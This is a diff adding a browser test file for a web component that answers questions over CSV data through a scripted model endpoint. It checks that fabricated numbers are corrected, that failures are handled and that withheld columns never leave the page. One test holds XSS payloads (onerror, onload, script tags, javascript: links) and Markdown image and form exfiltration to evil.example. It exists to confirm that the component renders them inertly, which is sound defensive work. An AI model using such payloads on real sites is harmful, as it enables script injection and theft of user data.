@@ -1,0 +1,194 @@
+// <pinhole-ask> with an engine of the page's and a scripted endpoint: models that are right, lie,
+// stand still and break off, markup that wants to be more than text, and what leaves the page.
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { ENDPOINT, elementStage, page } from "./element-page.mjs";
+import { call, fail, say } from "./endpoint.mjs";
+import { CSV, found } from "./secrets.mjs";
+import { BY_SHOP, PURCHASES } from "./tables.mjs";
+
+const open = elementStage();
+const files = { "purchases.csv": PURCHASES };
+const MODEL = `src="purchases.csv" open endpoint="${ENDPOINT}" model="scripted"`;
+const QUESTION = "which shop has the highest total amount?";
+
+function talk(t, script, options = {}) {
+  return open(t, { html: page({ attributes: MODEL }), files, script, ...options });
+}
+
+test("a true answer in Markdown: marked, streamed, and on the ledger byte for byte", async (t) => {
+  const text =
+    "Here are the totals.\n\n| shop | total |\n|---|---|\n| Vkusno | **912** |\n| Zarya | 78.25 |\n\nVkusno has the highest total, 912.";
+  const scene = await talk(t, [call("query", BY_SHOP), say(text, { hang: 7 })]);
+  await scene.ready();
+  assert.match(await scene.id("privacy").textContent(), /127\.0\.0\.1/);
+  const turn = await scene.begin(QUESTION);
+  await scene.id("answer", turn).and(scene.page.locator("[draft]")).waitFor();
+  await scene.picture("30-draft");
+  await scene.accessible("draft");
+  scene.endpoint.release();
+  await scene.settled(turn);
+  const claims = await scene.claims(turn);
+  assert.deepEqual(new Set(claims.map(([, verdict]) => verdict)), new Set(["verified"]));
+  assert.ok(claims.filter(([one]) => one === "912").length >= 2, JSON.stringify(claims));
+  assert.equal(await turn.locator("pinhole-answer table td strong mark").count(), 1);
+  assert.doesNotMatch(await scene.unmarked(turn), /\d/);
+  await scene.picture("31-markdown");
+  await scene.accessible("Markdown");
+
+  await scene.id("tab-sent", turn).click();
+  await scene.id("ledger-entry", turn).nth(1).waitFor();
+  for (const summary of await turn.locator("summary").all()) await summary.click();
+  const shown = await scene.id("ledger-body", turn).allTextContents();
+  assert.deepEqual(
+    shown,
+    scene.endpoint.bodies.map((body) => body.toString("utf8")),
+  );
+  assert.match(await scene.id("ledger-outcome", turn).textContent(), /Chain verified: 2/);
+  assert.equal(await scene.id("ledger-level", turn).first().textContent(), "summaries");
+  await scene.picture("32-ledger");
+  await scene.accessible("ledger");
+});
+
+test("a model that lies: the number of the data stands in its place, and says so", async (t) => {
+  const lie = say("Vkusno has the highest total, 921. The mood is 4711.");
+  const scene = await talk(t, [call("query", BY_SHOP), lie, lie, lie]);
+  const turn = await scene.ask(QUESTION);
+  const claims = await scene.claims(turn);
+  assert.ok(
+    claims.some(([text, verdict]) => text === "912" && verdict === "corrected"),
+    JSON.stringify(claims),
+  );
+  assert.ok(claims.some(([text, verdict]) => text === "4711" && verdict === "unverifiable"));
+  assert.doesNotMatch(await scene.text(turn), /921/);
+  assert.doesNotMatch(await scene.unmarked(turn), /\d/);
+  await scene.id("claim", turn).filter({ hasText: "912" }).focus();
+  await scene.id("claim-note", turn).filter({ hasText: "921" }).waitFor();
+  await scene.id("claim-rows", turn).waitFor();
+  const note = await scene.id("claim-note", turn).boundingBox();
+  const body = await scene.page.locator("pinhole-ask .body").boundingBox();
+  assert.ok(note.y >= body.y, "its head is in sight");
+  await scene.picture("33-corrected");
+  await scene.accessible("corrected");
+});
+
+test("markup of a model, of names and of cells is text", async (t) => {
+  const evil = "<img src=x onerror=alert(1)><svg onload=alert(2)>";
+  const table = `"sh<b onclick=alert(3)>op",amount\n"${evil}",500\n"javascript:alert(4)",412\n"[x](javascript:alert(5))",7\n`;
+  const text = [
+    `The highest total is 500. ${evil}`,
+    "![secret](https://evil.example/?q=500)",
+    "[a](javascript:alert(6)) [b](data:text/html,x) [c](https://example.org/500) <https://example.org/q>",
+    "<form action=https://evil.example><input name=q><button>go</button></form>",
+    "<style>*{display:none}</style> <a href=https://evil.example onclick=alert(7) style=color:red>d</a>",
+    "\ue000\ue100912\ue001 <script>alert(8)</script>",
+  ].join("\n\n");
+  const query = { table: "purchases", select: "max(amount)" };
+  const scene = await talk(t, [call("query", query), say(text), say(text), say(text)], {
+    files: { "purchases.csv": table },
+  });
+  const turn = await scene.ask("what is the highest amount?");
+  const inside = await scene
+    .id("answer", turn)
+    .locator(".text")
+    .evaluate((element) => ({
+      names: [...new Set([...element.querySelectorAll("*")].map(({ localName }) => localName))],
+      attributes: [
+        ...new Set([...element.querySelectorAll("*")].flatMap((one) => one.getAttributeNames())),
+      ],
+      links: [...element.querySelectorAll("a")].map((link) => link.getAttribute("href")),
+    }));
+  for (const name of ["img", "svg", "form", "input", "style", "script", "button"]) {
+    assert.ok(!inside.names.includes(name), name);
+  }
+  for (const name of inside.attributes) assert.doesNotMatch(name, /^on|style|src|action/, name);
+  assert.ok(inside.links.includes("https://example.org/500"), "a link's address is left as it is");
+  for (const link of inside.links) assert.match(link, /^https:\/\/(example\.org|evil\.example)\//);
+  assert.ok((await scene.text(turn)).includes(evil), "it is shown as it was written");
+  assert.ok(scene.log.every(({ url }) => !url.includes("evil")));
+  await scene.picture("34-markup");
+  for (const tab of ["query", "data", "sent"]) await scene.id(`tab-${tab}`, turn).click();
+  const data = await scene.ask("total amount by sh<b onclick=alert(3)>op");
+  for (const tab of ["data", "query", "answer"]) {
+    await scene.id(`tab-${tab}`, data).click();
+    assert.equal(await data.locator("img, svg, script, b[onclick]").count(), 0);
+  }
+});
+
+test("cancelled, failed, and answered without the endpoint", async (t) => {
+  const scene = await talk(t, [say("It is", { hang: 1 }), fail(400), fail(400)], {
+    expect: /400|Failed to load/,
+  });
+  await scene.ready();
+  const turn = await scene.begin("total amount by shop");
+  await scene.id("working", turn).waitFor();
+  await scene.picture("35-waiting");
+  await scene.accessible("waiting");
+  await scene.id("cancel", turn).click();
+  await scene.settled(turn);
+  assert.equal(await scene.id("error", turn).getAttribute("data-code"), "cancelled");
+  const failed = await scene.ask("total amount by shop");
+  await scene.id("error", failed).waitFor();
+  await scene.picture("36-failed");
+  await scene.accessible("failed");
+  await scene.id("ask_planner", failed).click();
+  const local = scene.page.locator("pinhole-turn").nth(2);
+  await scene.settled(local);
+  assert.match(await scene.text(local), /912/);
+  assert.match(await scene.id("foot", local).textContent(), /built-in planner/);
+});
+
+test("the page's own engine, its policy, and what never leaves", async (t) => {
+  const module = `
+    import { Pinhole } from "/pinhole/index.js";
+    const policy = { level: "summary", columns: { "people.salary": "aggregate", "people.score": "aggregate", "people.name": "hidden" } };
+    const ph = await Pinhole.open({ policy });
+    await ph.load("people", new URL("people.csv", location.href), { classes: { email: "hidden" } });
+    window.heard = [];
+    for (const type of ["ask", "answer", "filter", "toggle", "evidence", "ready"]) {
+      document.addEventListener("pinhole-" + type, () => window.heard.push(type));
+    }
+    const ask = document.querySelector("pinhole-ask");
+    ask.ph = ph;
+    ask.chatOptions = { endpoint: "${ENDPOINT}", model: "scripted" };
+    ask.show();`;
+  const script = [
+    call("query", { table: "people", select: "max(salary)" }),
+    call("query", { table: "people", group_by: "town", select: "mean(salary)" }),
+    say("I was not told."),
+    say("Nothing to add."),
+  ];
+  const scene = await open(t, {
+    html: page({ attributes: "", script: true }),
+    module,
+    script,
+    files: { "people.csv": CSV },
+  });
+  const turn = await scene.ask("what is the highest salary?");
+  await scene.id("tab-data", turn).click();
+  await scene.id("filter", turn).click();
+  await scene.id("tab-sent", turn).click();
+  await scene.id("said-withheld", turn).first().waitFor();
+  const withheld = await scene.id("withheld", turn).innerText();
+  assert.match(withheld, /people\.email: hidden/);
+  assert.match(withheld, /people\.salary: only inside aggregates over at least 5 rows/);
+  await scene.picture("37-withheld");
+  await scene.accessible("withheld");
+  // Completion reads the page's data; typing it is asking for nothing.
+  await scene.id("question").fill("name sal");
+  await scene.id("completion").first().waitFor();
+  await scene.id("tab-query", turn).click();
+  await scene.id("query-run", turn).click();
+  await scene.id("query-outcome", turn).filter({ hasText: "Done" }).waitFor();
+  await scene.ask("and now?");
+  assert.deepEqual(
+    new Set(await scene.page.evaluate(() => window.heard)),
+    new Set(["ask", "answer", "filter", "toggle", "ready"]),
+  );
+  for (const { url, body } of scene.log) {
+    assert.deepEqual(found(decodeURIComponent(url)), []);
+    assert.deepEqual(found(body.toString("utf8")), []);
+    assert.doesNotMatch(body.toString("utf8"), /zqmail|email/i);
+  }
+  assert.ok(scene.endpoint.bodies.length >= 3);
+});
